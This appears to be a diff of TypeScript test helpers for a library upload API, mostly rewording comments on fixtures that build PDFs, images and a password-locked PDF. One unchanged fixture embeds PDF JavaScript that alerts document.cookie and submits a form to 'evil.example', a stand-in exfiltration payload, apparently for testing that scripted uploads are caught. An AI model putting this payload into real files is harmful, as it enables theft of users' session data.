@@ -11,7 +11,7 @@ export async function pdfOf(...lines: readonly string[]): Promise<Uint8Array> {
   return pdf.save();
 }
 
-/** A small picture, another one for each number. */
+/** A small picture, different for each number. */
 export function pictureOf(number: number): Promise<Buffer> {
   const background = { r: number % 256, g: (number >> 8) % 256, b: 100 };
   return sharp({ create: { width: 30, height: 40, channels: 3, background } })
@@ -23,21 +23,21 @@ let made = 0;
 /** A picture that nobody has uploaded yet. */
 export const anyPicture = (): Promise<Buffer> => pictureOf(made++);
 
-/** A PDF with a script that runs when it is opened, and one behind a link. */
+/** A PDF with a script that runs when it is opened. */
 export async function pdfWithScripts(): Promise<Uint8Array> {
   const pdf = await PDFDocument.load(await pdfOf('Scripted notes'));
   pdf.addJavaScript('evil', 'app.alert(document.cookie); this.submitForm("https://evil.example")');
   return pdf.save();
 }
 
-/** A PDF of so many empty pages behind one with words. */
+/** A PDF of this many empty pages after one with text. */
 export async function pdfOfPages(count: number): Promise<Uint8Array> {
   const pdf = await PDFDocument.load(await pdfOf('The first of many'));
   for (let page = 1; page < count; page++) pdf.addPage([200, 300]);
   return pdf.save();
 }
 
-/** A PDF of very many empty pages, which takes no library to write: a hundred under each node of the tree. */
+/** A PDF of very many empty pages, written without a library: a hundred under each node of the tree. */
 export function pdfOfManyPages(count: number): Buffer {
   const nodes = Math.ceil(count / 100);
   const kids = (first: number, length: number) =>
@@ -61,7 +61,7 @@ export function pdfOfManyPages(count: number): Buffer {
   );
 }
 
-/** A PDF that nobody reads without its password. */
+/** A PDF that needs a password. */
 export const LOCKED_PDF = Buffer.from(`%PDF-1.4
 1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj
 2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj
@@ -71,7 +71,7 @@ trailer <</Root 1 0 R /Encrypt 4 0 R /ID [<${'01'.repeat(16)}> <${'01'.repeat(16
 %%EOF
 `);
 
-/** Uploads an item; answers what the call does. */
+/** Upload an item; answers the result of the call. */
 export function tryUpload(
   quad: TestContext,
   as: TestPerson,
@@ -84,7 +84,7 @@ export function tryUpload(
   return quad.call('POST', '/api/library', { as, body });
 }
 
-/** Uploads an item and answers it. */
+/** Upload an item and answer it. */
 export async function uploadItem(...given: Parameters<typeof tryUpload>): Promise<LibraryItemDetails> {
   const { status, body } = await tryUpload(...given);
   if (status !== 201) throw new Error(`an upload answered ${status}: ${JSON.stringify(body)}`);
